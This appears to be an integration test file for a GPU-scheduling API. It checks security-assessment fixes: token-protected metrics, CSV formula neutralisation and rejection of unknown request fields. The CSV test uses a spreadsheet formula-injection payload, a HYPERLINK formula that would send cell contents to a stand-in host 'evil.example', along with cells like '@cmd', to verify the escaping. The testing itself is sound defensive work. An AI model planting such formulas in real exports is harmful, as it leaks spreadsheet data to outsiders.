import type { INestApplication } from '@nestjs/common';
import { NestFactory } from '@nestjs/core';
import request from 'supertest';
import { createApiKey, createTeam, createUser } from '@gantry/db';
import { HTTP_STATUS } from './common/errors';
import { parseConfig } from './config/config';
import { HttpModule } from './app.module';
import { configureHttp } from './http';
import { BOOTSTRAP_ADMIN_KEY, eventually, makeTenant, startSystem, type TestSystem } from './test-support/system';

const ADMIN = `Bearer ${BOOTSTRAP_ADMIN_KEY}`;
const METRICS_TOKEN = 'edges-metrics-token-0123456789abcdef';
const TENANT_SCOPES = ['jobs:read', 'jobs:write', 'endpoints:read', 'endpoints:write', 'quotas:read', 'quotas:write', 'cluster:read'];

/**
 * Findings of the security assessment (second batch): /metrics behind a token, CSV formula
 * injection, security headers and Secure cookies, e-mail addresses unique per tenant (no
 * cross-tenant 409), and unknown fields refused everywhere. Each test fails on the code
 * before its fix.
 */
describe('security edges: /metrics, CSV cells, headers and cookies, per-tenant e-mail, unknown fields', () => {
  let sys: TestSystem;
  /** Extra API processes on the same database and queues, with other settings. */
  const extraApis: INestApplication[] = [];

  beforeAll(async () => {
    sys = await startSystem({ GANTRY_METRICS_TOKEN: METRICS_TOKEN, GANTRY_RATE_LIMIT_PER_MINUTE: '100000' });
    await eventually(async () => (await sys.db.gpu.count()) >= 256);
  }, 60_000);
  afterAll(async () => {
    await Promise.allSettled(extraApis.map((a) => a.close()));
    await sys?.close();
  });

  /** A second API process on the system's database and queues, with `env` on top. */
  async function startApi(env: Record<string, string>) {
    const config = parseConfig({
      ...process.env,
      DATABASE_URL: sys.config.databaseUrl,
      GANTRY_QUEUE_PREFIX: sys.config.queuePrefix,
      GANTRY_BOOTSTRAP_ADMIN_KEY: BOOTSTRAP_ADMIN_KEY,
      GANTRY_LOG_LEVEL: 'warn',
      GANTRY_RATE_LIMIT_PER_MINUTE: '100000',
      ...env,
    });
    const api = await NestFactory.create(HttpModule.forRoot(config), { bodyParser: false, logger: ['error'], forceCloseConnections: true });
    extraApis.push(api);
    configureHttp(api);
    await api.init();
    return () => request(api.getHttpServer());
  }

  const expectEnvelope = (res: { status: number; body: { error?: { code?: string; message?: string } } }, wantStatus: number) => {
    expect(res.status).toBe(wantStatus);
    expect(typeof res.body.error?.code).toBe('string');
    expect(HTTP_STATUS[res.body.error!.code as keyof typeof HTTP_STATUS]).toBe(wantStatus);
    expect(res.body.error!.message).toEqual(expect.stringMatching(/\S/));
  };
  const errorText = (res: { body: { error?: { message?: string; details?: unknown } } }) => `${res.body.error?.message ?? ''} ${JSON.stringify(res.body.error?.details ?? [])}`;

  describe('6. /metrics needs the metrics token or a platform-admin key; tenant and team names stay out of its labels', () => {
    let t: Awaited<ReturnType<typeof makeTenant>>;
    let tenantAdmin: string;

    beforeAll(async () => {
      t = await makeTenant(sys.db, 'edge-metrics-acme', { scopes: TENANT_SCOPES, quota: { guaranteed: 0, limit: 8 } });
      tenantAdmin = `Bearer ${(await createApiKey(sys.db, { name: 'edge tenant admin', role: 'tenant_admin', tenantId: t.tenant.id, scopes: TENANT_SCOPES })).key}`;
      // A pending job of this team (a queue-depth row), kept pending: its tenant may use no GPU.
      expect((await sys.http().put(`/v1/tenants/${t.tenant.id}/quota`).set('Authorization', ADMIN).send({ gpuTotal: 0 })).status).toBe(200);
      await sys.db.job.create({ data: { tenantId: t.tenant.id, teamId: t.team.id, name: 'edge-pending', kind: 'batch', replicas: 1, resources: { gpus: 1, cpuMilli: 4000, memoryMiB: 16384 } } });
    });

    const queueDepthLine = (text: string) => text.split('\n').find((l) => l.startsWith('gantry_queue_depth{') && l.includes(t.team.id));

    it.each([
      ['no Authorization header', undefined],
      ['a wrong metrics token', 'Bearer edges-metrics-token-0123456789abcdeX'],
      ['an unknown API key', 'Bearer gk_nobody_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'],
      ['a malformed header', 'Basic Zm9vOmJhcg=='],
    ])('answers 401 in the error envelope with %s', async (_n, auth) => {
      const req = sys.http().get('/metrics');
      const res = auth ? await req.set('Authorization', auth) : await req;
      expectEnvelope(res, 401);
      expect(res.text).not.toContain('gantry_queue_depth');
    });

    it('refuses a tenant key, even a tenant admin’s (403, envelope)', async () => {
      for (const auth of [t.auth, tenantAdmin]) {
        const res = await sys.http().get('/metrics').set('Authorization', auth);
        expectEnvelope(res, 403);
        expect(res.text).not.toContain(t.tenant.slug);
      }
    });

    it('scrapes with Authorization: Bearer <GANTRY_METRICS_TOKEN>: opaque tenant_id and team_id labels, no tenant or team names', async () => {
      const res = await sys.http().get('/metrics').set('Authorization', `Bearer ${METRICS_TOKEN}`);
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toMatch(/^text\/plain/);
      const line = await eventually(async () => queueDepthLine((await sys.http().get('/metrics').set('Authorization', `Bearer ${METRICS_TOKEN}`)).text));
      expect(line).toBe(`gantry_queue_depth{tenant_id="${t.tenant.id}",team_id="${t.team.id}"} 1`);
      expect(res.text).not.toContain('edge-metrics-acme');
      expect(res.text).not.toMatch(/\b(tenant|team)="/);
    });

    it('scrapes with a platform-admin key', async () => {
      const res = await sys.http().get('/metrics').set('Authorization', ADMIN);
      expect(res.status).toBe(200);
      expect(res.text).toContain('# TYPE gantry_queue_depth gauge');
    });

    it('without GANTRY_METRICS_TOKEN only platform-admin keys scrape', async () => {
      const http = await startApi({});
      expectEnvelope(await http().get('/metrics'), 401);
      expectEnvelope(await http().get('/metrics').set('Authorization', `Bearer ${METRICS_TOKEN}`), 401);
      expect((await http().get('/metrics').set('Authorization', ADMIN)).status).toBe(200);
    });

    it('adds tenant and team labels only with GANTRY_METRICS_TENANT_LABELS=true', async () => {
      const http = await startApi({ GANTRY_METRICS_TOKEN: METRICS_TOKEN, GANTRY_METRICS_TENANT_LABELS: 'true' });
      const res = await http().get('/metrics').set('Authorization', `Bearer ${METRICS_TOKEN}`);
      expect(res.status).toBe(200);
      expect(queueDepthLine(res.text)).toBe(`gantry_queue_depth{tenant_id="${t.tenant.id}",team_id="${t.team.id}",tenant="${t.tenant.slug}",team="${t.team.slug}"} 1`);
    });

    it('refuses a metrics token shorter than 16 characters at boot', () => {
      expect(() => parseConfig({ GANTRY_METRICS_TOKEN: 'short' })).toThrow(/GANTRY_METRICS_TOKEN/);
    });
  });

  describe('8. CSV exports neutralise cells that a spreadsheet would run as a formula', () => {
    const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open report")';
    const NAMES = [HYPERLINK, '+SUM(1,2)', '-2+3', '@cmd', 'Plain, "quoted" team'];
    let t: Awaited<ReturnType<typeof makeTenant>>;
    const teamIds = new Map<string, string>();

    beforeAll(async () => {
      t = await makeTenant(sys.db, 'edge-csv');
      for (const [i, name] of NAMES.entries()) {
        // The API takes such names; the factory then gives the team a quota, so that it is in the report.
        const made = await sys.http().post(`/v1/tenants/${t.tenant.id}/teams`).set('Authorization', ADMIN).send({ name, slug: `csv-${i}` });
        expect(made.status).toBe(201);
        await createTeam(sys.db, t.tenant.id, { name, slug: `csv-${i}`, quota: { guaranteed: 1, limit: 2 } });
        teamIds.set(made.body.id, name);
      }
    });

    /** RFC 4180: fields separated by commas, quoted fields with "" for a quote, lines by \n. */
    const parseCsv = (text: string): string[][] => {
      const rows: string[][] = [];
      let row: string[] = [];
      let cell = '';
      let quoted = false;
      for (let i = 0; i < text.length; i++) {
        const c = text[i]!;
        if (quoted) {
          if (c === '"' && text[i + 1] === '"') {
            cell += '"';
            i++;
          } else if (c === '"') quoted = false;
          else cell += c;
        } else if (c === '"') quoted = true;
        else if (c === ',') {
          row.push(cell);
          cell = '';
        } else if (c === '\n') {
          row.push(cell);
          rows.push(row);
          row = [];
          cell = '';
        } else cell += c;
      }
      if (cell || row.length) {
        row.push(cell);
        rows.push(row);
      }
      return rows;
    };

    it('GET /v1/utilization?format=csv: a team named =HYPERLINK(...) comes out as text (leading quote, RFC 4180 quoting)', async () => {
      const res = await sys.http().get('/v1/utilization?groupBy=team&step=1d&format=csv').set('Authorization', ADMIN);
      expect(res.status).toBe(200);
      expect(res.text).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Open report"")",`);
      const rows = parseCsv(res.text);
      const labels = new Map(rows.filter((r) => teamIds.has(r[0]!)).map((r) => [r[0]!, r[1]!]));
      expect(labels.size).toBe(NAMES.length);
      for (const [id, name] of teamIds) expect(labels.get(id)).toBe(name === 'Plain, "quoted" team' ? name : `'${name}`);
      // No text cell anywhere starts a formula; numbers stay numbers.
      for (const r of rows.slice(1)) {
        for (const cell of r) if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^-?\d+(\.\d+)?$/);
        expect(r.slice(3).every((c) => c === '' || /^-?\d+(\.\d+)?(e[+-]?\d+)?$/.test(c))).toBe(true);
      }
    });
  });

  describe('15. unknown fields are refused in every body and query (400 naming the field)', () => {
    let t: Awaited<ReturnType<typeof makeTenant>>;
    beforeAll(async () => {
      t = await makeTenant(sys.db, 'edge-strict');
    });

    it('POST /v1/teams/:id/schedules with an unknown field: 400 naming it, nothing stored', async () => {
      const res = await sys.http().post(`/v1/teams/${t.team.id}/schedules`).set('Authorization', t.auth)
        .send({ action: 'suspend', cron: '0 18 * * 1-5', timeZone: 'Europe/Berlin', jobld: 'typo-of-jobId' });
      expectEnvelope(res, 400);
      expect(errorText(res)).toContain('jobld');
      expect(await sys.db.suspendSchedule.count({ where: { teamId: t.team.id } })).toBe(0);
      const ok = await sys.http().post(`/v1/teams/${t.team.id}/schedules`).set('Authorization', t.auth).send({ action: 'suspend', cron: '0 18 * * 1-5', timeZone: 'Europe/Berlin' });
      expect(ok.status).toBe(201);
    });

    it.each([
      ['GET /v1/jobs', '/v1/jobs?teamid=x', 'teamid'],
      ['GET /v1/users', '/v1/users?limit=5&offset=10', 'offset'],
      ['GET /v1/utilization', '/v1/utilization?groupBy=team&team=x', 'team'],
    ])('%s with an unknown query parameter: 400 naming it', async (_n, url, field) => {
      const res = await sys.http().get(url).set('Authorization', ADMIN);
      expectEnvelope(res, 400);
      expect(errorText(res)).toContain(field);
    });

    it('an action route that takes no body refuses one with fields (POST /v1/jobs/:id/cancel {"force": true}), takes none or {}', async () => {
      const job = await sys.http().post('/v1/jobs').set('Authorization', t.auth).send({ teamId: t.team.id, name: 'edge-strict', kind: 'batch', resources: { gpus: 1 }, simulation: { durationSeconds: 900 } });
      expect(job.status).toBe(201);
      const res = await sys.http().post(`/v1/jobs/${job.body.id}/cancel`).set('Authorization', t.auth).send({ force: true });
      expectEnvelope(res, 400);
      expect(errorText(res)).toContain('force');
      expect((await sys.db.job.findUniqueOrThrow({ where: { id: job.body.id } })).state).not.toBe('cancelled');
      expect((await sys.http().post(`/v1/jobs/${job.body.id}/cancel`).set('Authorization', t.auth).send({})).status).toBe(200);
      expect((await sys.http().post(`/v1/jobs/${job.body.id}/cancel`).set('Authorization', t.auth)).status).toBeLessThan(500);
    });
  });
});
